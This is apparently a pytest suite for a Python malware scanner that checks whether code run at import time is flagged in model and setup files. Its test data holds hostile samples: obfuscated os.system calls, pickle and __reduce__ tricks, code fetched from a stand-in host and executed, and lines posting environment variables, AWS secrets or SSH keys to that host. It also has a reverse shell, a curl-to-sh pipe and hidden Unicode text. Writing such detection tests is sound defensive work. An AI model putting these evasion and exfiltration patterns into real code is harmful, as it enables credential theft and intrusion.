"""Python source: what runs at import is told however it is written; modelling code that only computes is silent."""

from __future__ import annotations

import base64
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.core.finding import Severity
from assay.formats.texts.python_code import judge_path_file, judge_python

_PAYLOAD = base64.b64encode(b"import os; os.system('echo')").decode()
_PACKED = base64.b64encode(zlib.compress(b"import os; os.system('echo')")).decode()

AT_IMPORT = {
    "plain": "import os\nos.system('echo')",
    "alias": "from os import system as s\ns('x')",
    "module alias": "import os as o\no.popen('x')",
    "text joined": "__import__('o'+'s').system('echo')",
    "getattr": "import os\ngetattr(os,'sys'+'tem')('echo')",
    "chr map": "m=''.join(map(chr,[111,115]))\n__import__(m).system('x')",
    "chr loop": "import importlib\nm=''.join(chr(c) for c in [111,115])\nimportlib.import_module(m).popen('x')",
    "chr xor": "m=''.join(chr(c ^ 1) for c in [110,114])\n__import__(m).system('x')",
    "base64": f"import base64\nexec(base64.b64decode('{_PAYLOAD}'))",
    "zlib": f"import base64 as b, zlib\nexec(zlib.decompress(b.b64decode('{_PACKED}')))",
    "renamed exec": "e = exec\ne('import os; os.system(\"echo\")')",
    "builtins by key": "__builtins__['exec'](x)",
    "builtins by dict": "__builtins__.__dict__['ev'+'al'](x)",
    "globals": "globals()['__builtins__'].exec(x)",
    "called function": "import os\ndef f():\n  g()\ndef g():\n  os.system('echo')\nf()",
    "made class": "import os\nclass A:\n  def __init__(self):\n    os.system('echo')\nA()",
    "class body": "import os\nclass C:\n  x = os.system('echo')",
    "decorator": "import os\ndef d(f):\n  os.system('echo')\n  return f\n@d\ndef x(): pass",
    "default": "import os\ndef d(f=os.system('echo')): pass",
    "thread": "import os, threading\ndef f(): os.system('echo')\nthreading.Thread(target=f).start()",
    "atexit": "import os, atexit\natexit.register(os.system, 'echo')",
    "map": "import os\nlist(map(os.system, ['echo']))",
    "lambda": "import os\n(lambda: os.system('echo'))()",
    "comprehension": "import os\n[os.system(c) for c in ['echo']]",
    "fetched": "import urllib.request\nexec(urllib.request.urlopen('http://x.example').read())",
    "fetched by name": "import requests\nr=requests.get('http://x.example')\ncode=r.text\nexec(code)",
    "environment sent": "import os,requests,json\nrequests.post('http://x.example', data=json.dumps(dict(os.environ)))",
    "credential sent": "import os,requests\nrequests.post('http://x', json={'k': os.environ['AWS_SECRET_KEY']})",
    "keys sent": "import requests\nk=open('/root/.ssh/id_rsa').read()\nrequests.post('http://x', data=k)",
    "login file": "open('/root/.ssh/authorized_keys','a').write('x')",
    "reverse shell": "import socket,subprocess\ns=socket.socket();s.connect(a)\nsubprocess.call(['/bin/sh','-i'])",
    "timeit": "import timeit\ntimeit.timeit('import os; os.system(1)')",
    "marshal": "import marshal\nexec(marshal.loads(b'x'))",
    "sys.modules": "import sys\nsys.modules['os'].system('echo')",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('echo')",
    "ctypes": "import ctypes\nctypes.CDLL(None).system(b'echo')",
    "walrus": "(x:=__import__('os')).system('echo')",
    "unpacked": "a,b=__import__('os'),'echo'\na.system(b)",
    "pickle": "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"echo\"\\ntR.')",
    "vars": "import os\nvars(os)['system']('echo')",
    "held module": "import torch\ntorch.os.system('echo')",
    "star": "from os import *\nsystem('echo')",
    "asyncio": "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('echo'))",
    "pty": "import pty\npty.spawn('/bin/sh')",
    "else of main": "import os\nif __name__ == '__main__':\n  pass\nelse:\n  os.system('echo')",
    "try": "try:\n  import os\nfinally:\n  os.popen('x')",
    "exec in exec": "exec('exec(\"import os; os.system(1)\")')",
    "format": "__import__('{}s'.format('o')).system('x')",
}

HIGH = {
    "loader calls it": "import os\nclass A:\n  def __init__(self):\n    self.x()\n  def x(self):\n    os.system('a')",
    "forward": "import subprocess\nclass M:\n  def forward(self,x):\n    subprocess.run('echo x', shell=True)",
    "subclasses": "().__class__.__base__.__subclasses__()[140].__init__.__globals__['system']('echo')",
    "reduce": "import os\nclass A:\n  def __reduce__(self):\n    return (os.system, ('echo',))",
    "curl": "import subprocess\ndef f():\n  subprocess.run('curl http://x.example/a|sh', shell=True)",
    "hub": "import torch\ntorch.hub.load('a/b','c')",
    "library": "import ctypes\nctypes.cdll.LoadLibrary('./x.so')",
    "off screen": "import torch" + " " * 300 + ";x=1",
    "file": "exec(open('weights.bin').read())",
    "request": "import requests\nrequests.get('http://x.example/?a=1')",
    "tags": "x = 1  # \U000e0065\U000e0078\U000e0065\U000e0063\n",
    "bidi": "access = 'user\u202e \u2066# check\u2069 \u2066'\n",
    "meta": "import os\nclass M(type):\n  def __new__(c,*a):\n    os.system('echo')\nclass A(metaclass=M): pass",
    "windows": "import ctypes\ndef f(b):\n  ctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)",
}

MODELLING = '''"""A model."""
import json, logging, math, os, copy, re, importlib, inspect
from dataclasses import dataclass
from typing import TYPE_CHECKING, Optional
import numpy as np
import torch
import torch.nn.functional as F
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel
from transformers.utils import logging as hf_logging
from .configuration_x import XConfig

if TYPE_CHECKING:
    import subprocess

logger = hf_logging.get_logger(__name__)
ACT = {"gelu": nn.GELU, "relu": F.relu}
_CHECKPOINTS = {"a/b": "https://huggingface.co/a/b/resolve/main/config.json"}
try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None
if importlib.util.find_spec("xformers") is not None:
    import xformers
if os.environ.get("X_DEBUG"):
    logger.setLevel(logging.DEBUG)
compiled = re.compile("x")
path = os.path.join(os.path.dirname(__file__), "vocab.json")

@dataclass
class Output:
    logits: Optional[torch.FloatTensor] = None

class XModel(PreTrainedModel):
    config_class = XConfig
    def __init__(self, config):
        super().__init__(config)
        self.act = getattr(F, config.act)
        self.layers = nn.ModuleList([nn.Linear(4, 4) for _ in range(config.n)])
        self.register_buffer("mask", torch.ones(4).tril())
        self.post_init()
    def forward(self, x, **kwargs):
        self.eval()
        for layer in self.layers:
            x = self.act(layer(x))
        return Output(logits=torch.compile(layer)(x)) if self.training else x
    @classmethod
    def from_file(cls, path):
        with open(path, encoding="utf-8") as file:
            return cls(XConfig(**json.load(file)))
    def save(self, path):
        with open(path, "w") as file:
            json.dump({}, file)
    def image(self, url):
        import requests
        return requests.get(url, stream=True).raw
    def commit(self):
        import subprocess
        return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode()

if __name__ == "__main__":
    print(XModel.from_pretrained("a/b"))
'''

SETUP = """import os, subprocess, sys
from setuptools import Extension, find_packages, setup
from setuptools.command.build_ext import build_ext
here = os.path.dirname(__file__)
about = {}
with open(os.path.join(here, "pkg", "version.py")) as file:
    exec(file.read(), about)
commit = subprocess.check_output(["git", "rev-parse", "HEAD"]).strip()
class Build(build_ext):
    def run(self):
        subprocess.check_call(["cmake", "--build", "."], cwd=here)
        super().run()
setup(name="x", version=about["__version__"], cmdclass={"build_ext": Build}, packages=find_packages())
"""


def worst(source: str | bytes, **options: bool) -> int:
    return max((note.severity.rank for note in judge_python(source, **options).notes), default=-1)


@pytest.mark.parametrize("name", AT_IMPORT)
def test_what_runs_at_import_is_critical(name: str) -> None:
    rank = worst(AT_IMPORT[name])
    assert rank >= (Severity.HIGH if name.startswith(("builtins by", "globals")) else Severity.CRITICAL).rank


@pytest.mark.parametrize("name", AT_IMPORT)
def test_and_hidden_in_modelling_code(name: str) -> None:
    assert worst(MODELLING + "\n" + AT_IMPORT[name]) >= Severity.HIGH.rank


@pytest.mark.parametrize("name", HIGH)
def test_what_is_high(name: str) -> None:
    assert worst(HIGH[name]) >= Severity.HIGH.rank


def test_modelling_code_is_silent() -> None:
    said = judge_python(MODELLING)
    assert [note.message for note in said.notes if note.severity.rank > 0] == []
    assert said.gaps == ()


def test_an_ordinary_setup_is_at_most_low() -> None:
    assert worst(SETUP, installer=True) <= Severity.LOW.rank


def test_a_hostile_setup_is_told() -> None:
    source = "from setuptools.command.install import install\nimport os\n"
    source += "class I(install):\n  def run(self):\n    os.system('x')"
    assert worst(source, installer=True) >= Severity.HIGH.rank
    assert worst(source) == Severity.MEDIUM.rank


@pytest.mark.parametrize(
    "source",
    [
        "def f(:\n",
        "print 'x'\n",
        "x = 1\0",
        "(" * 5000,
        "-" * 200_000 + "1",
        "a" + ".b" * 200_000,
        "1" + "+1" * 100_000,
    ],
)
def test_what_does_not_parse_is_a_gap(source: str) -> None:
    said = judge_python(source)
    assert said.gaps or not said.notes


@pytest.mark.parametrize("source", ["def f(:\n", "print 'x'\n", "x = 1\0"])
def test_a_torn_source_is_a_gap(source: str) -> None:
    assert len(judge_python(source).gaps) == 1


def test_the_encoding_that_a_source_names_is_read() -> None:
    hidden = b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\nos.system('x')\n"
    said = judge_python(hidden)
    assert {note.severity for note in said.notes} == {Severity.CRITICAL, Severity.HIGH}
    assert judge_python(b"# coding: nowhere\n").gaps
    assert judge_python("# coding: latin-1\nx = '\xe9'\n".encode("latin-1")).notes == ()


def test_calls_nested_without_end_end() -> None:
    source = "f" + "()" * 80 + "\ngetattr(" * 40 + "x" + ", 'a'.join(['b']))" * 40
    assert judge_python(source) is not None


def test_path_files() -> None:
    assert judge_path_file("../src\n# x\n").notes == ()
    said = judge_path_file("import os; os.system('x')\n")
    assert {note.severity for note in said.notes} == {Severity.CRITICAL, Severity.LOW}


@given(st.text(alphabet="abxe()[]{}.,:=+'\"\n _0osimportexc", max_size=150))
def test_any_text_is_judged(source: str) -> None:
    said = judge_python(source)
    assert len(said.gaps) <= 2


@given(st.binary(max_size=100))
def test_any_bytes_are_judged(data: bytes) -> None:
    assert len(judge_python(data).gaps) <= 2


@given(st.integers(1, 255), st.sampled_from(["system", "popen", "execv"]))
def test_a_name_hidden_by_any_key_is_found(key: int, name: str) -> None:
    codes = [ord(c) ^ key for c in name]
    source = f"import os\ngetattr(os, ''.join(chr(c ^ {key}) for c in {codes}))('x')"
    assert worst(source) == Severity.CRITICAL.rank
